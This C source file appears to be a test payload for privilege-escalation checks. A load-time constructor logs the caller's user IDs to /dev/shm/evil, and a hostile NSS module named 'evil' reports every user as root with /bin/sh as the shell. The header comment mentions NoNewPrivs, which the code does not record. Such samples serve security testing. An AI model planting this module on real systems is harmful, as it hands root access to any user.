/* A library that notes who runs with it, as soon as it is loaded: user and NoNewPrivs. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <unistd.h>

__attribute__((constructor)) static void note(void)
{
	char line[100];
	int fd = open("/dev/shm/evil", O_WRONLY | O_CREAT | O_APPEND, 0666);
	int size = snprintf(line, sizeof line, "%d %d\n", getuid(), geteuid());

	if (fd >= 0 && write(fd, line, size) >= 0)
		close(fd);
}

/* What the C library calls of an NSS module: everybody is root. */
#include <grp.h>
#include <nss.h>
#include <pwd.h>
#include <string.h>

enum nss_status _nss_evil_getpwnam_r(const char *name, struct passwd *result, char *buffer, size_t size, int *error)
{
	(void)error;
	snprintf(buffer, size, "%s", name);
	*result = (struct passwd){buffer, "", 0, 0, "", "/", "/bin/sh"};
	return NSS_STATUS_SUCCESS;
}

enum nss_status _nss_evil_getgrnam_r(const char *name, struct group *result, char *buffer, size_t size, int *error)
{
	static char *nobody[] = {0};

	(void)error;
	snprintf(buffer, size, "%s", name);
	*result = (struct group){buffer, "", 0, nobody};
	return NSS_STATUS_SUCCESS;
}
